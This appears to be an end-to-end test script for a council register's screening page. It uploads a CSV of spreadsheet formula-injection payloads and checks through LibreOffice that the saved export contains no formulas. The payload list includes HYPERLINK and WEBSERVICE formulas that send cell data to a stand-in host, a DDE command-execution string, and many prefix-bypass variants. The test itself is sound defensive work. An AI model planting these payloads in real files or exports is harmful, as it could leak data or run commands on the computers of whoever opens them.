/**
 * What a council saves from the register is opened by a spreadsheet program: a list of visits whose every cell tries to be a formula is brought,
 * checked and saved again, and LibreOffice finds no formula in it. The same list as it was brought has some, or the trial would show nothing.
 *
 *   node sheet.mjs
 */

import { execFile } from "node:child_process";
import { mkdir, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { promisify } from "node:util";
import { closeBrowser, look, output, views } from "./lib/browser.mjs";
import { mouse } from "./lib/mouse.mjs";
import { personas, signIn } from "./lib/personas.mjs";
import { startRegister } from "./lib/program.mjs";
import { answered } from "./lib/screening.mjs";

/** Beginnings that spreadsheet programs read as a formula, alone and behind what people and programs put before them. */
const FORMULAS = [
  "=1+1", "+1+1", "-1-1", "@SUM(1+1)", "=HYPERLINK(\"http://198.51.100.1/?\"&A1,\"Open\")", "=WEBSERVICE(\"http://198.51.100.1/\")", "=cmd|' /C calc'!A0",
  "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "'=1+1", "\"=1+1\"", ";=1+1", "=1+1,=2+2", "x\n=1+1", "＝1+1", "%0A=1+1", "=DDE(\"a\";\"b\";\"c\")",
];

const quoted = (cell) => `"${cell.replaceAll("\"", "\"\"")}"`;
const brought = ["Name,Address,Notes", ...FORMULAS.map((formula) => [formula, formula, formula].map(quoted).join(","))].join("\r\n");

const folder = join(output, "sheet");
await mkdir(folder, { recursive: true });

/** How many formulas LibreOffice finds in a saved table. @param {string} name @param {string} table */
async function formulasIn(name, table) {
  const file = join(folder, `${name}.csv`);
  await writeFile(file, table);
  const profile = `-env:UserInstallation=file://${join(folder, "profile")}`;
  // Comma, quotes, UTF-8, from the first line on, every column as it comes, with formulas worked out: what somebody who double-clicks may get.
  const reads = "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true";
  await promisify(execFile)("soffice", [profile, "--headless", reads, "--convert-to", "fods", "--outdir", folder, file], { timeout: 120_000 });
  return [...(await readFile(join(folder, `${name}.fods`), "utf8")).matchAll(/table:formula="([^"]*)"/g)].map(([, formula]) => formula);
}

const register = await startRegister();
try {
  const context = await look(views.desktop, { baseURL: register.url });
  const page = await context.newPage();
  await signIn(page, register.url, personas.officer);
  await page.goto("/screening");
  await page.getByLabel("A list in a spreadsheet").setInputFiles({ name: "week.csv", mimeType: "text/csv", buffer: Buffer.from(brought) });
  await page.getByRole("button", { name: "Continue" }).click();
  await page.getByRole("button", { name: "Check the list" }).click();
  await answered(page, mouse(page));
  const link = page.getByRole("link", { name: "Save every row with its answer" });
  const saved = await (await page.request.get(await link.getAttribute("href"))).text();

  const [before, after] = [await formulasIn("brought", brought), await formulasIn("saved", saved)];
  console.log(`${before.length} formulas in the list that was brought, ${after.length} in the one that was saved`);
  if (before.length === 0) throw new Error("the list that was brought has no formula: this trial shows nothing");
  if (after.length > 0) throw new Error(`formulas were saved: ${after.join(", ")}`);
} finally {
  await closeBrowser();
  await register.stop();
}
